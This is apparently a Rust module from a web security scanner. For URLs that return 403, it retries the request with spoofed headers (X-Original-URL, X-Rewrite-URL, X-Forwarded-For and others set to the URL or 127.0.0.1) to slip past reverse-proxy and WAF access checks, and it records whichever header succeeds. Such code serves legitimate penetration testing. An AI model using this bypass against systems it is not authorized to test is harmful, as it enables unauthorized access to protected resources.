//! 403 bypass via header spoofing.
//!
//! A fixed, ordered table of header overrides known to defeat naive
//! reverse-proxy and WAF path checks. First accepted status wins and the
//! remaining variants are not tried, so the reported header is
//! deterministic when several would succeed.

use crate::scanner::probe::{Classifier, OOB_HEADER};
use crate::Hit;

/// Value a bypass variant sends: the full probe URL, or a loopback IP.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum VariantValue {
    FullUrl,
    LoopbackIp,
}

/// The bypass sequence, in attempt order.
pub const BYPASS_VARIANTS: &[(&str, VariantValue)] = &[
    ("X-Original-URL", VariantValue::FullUrl),
    ("X-Rewrite-URL", VariantValue::FullUrl),
    ("X-Forwarded-For", VariantValue::LoopbackIp),
    ("X-Host", VariantValue::LoopbackIp),
    ("X-Custom-IP-Authorization", VariantValue::LoopbackIp),
];

impl Classifier {
    /// Retry a 403-blocked URL through the bypass sequence.
    ///
    /// Each variant is merged over the base headers (User-Agent + OOB
    /// token). Returns a Hit tagged with the winning header name, or
    /// `None` when no variant unlocks the path. A transport error aborts
    /// the remaining variants — the path is recorded as a non-hit.
    pub(crate) async fn attempt_bypass(
        &self,
        url: &str,
        user_agent: &'static str,
        oob_token: Option<String>,
    ) -> Option<Hit> {
        for &(header, value) in BYPASS_VARIANTS {
            let value = match value {
                VariantValue::FullUrl => url,
                VariantValue::LoopbackIp => "127.0.0.1",
            };

            let mut request = self
                .client
                .get(url)
                .header(reqwest::header::USER_AGENT, user_agent)
                .header(header, value);
            if let Some(token) = &oob_token {
                request = request.header(OOB_HEADER, token);
            }

            match request.send().await {
                Ok(response) => {
                    let status = response.status().as_u16();
                    if self.policy.accepts(status) {
                        return Some(
                            self.record_hit(url, response, Some(header), oob_token).await,
                        );
                    }
                }
                Err(e) => {
                    tracing::warn!(%url, header, error = %e, "bypass transport error");
                    return None;
                }
            }
        }
        None
    }
}
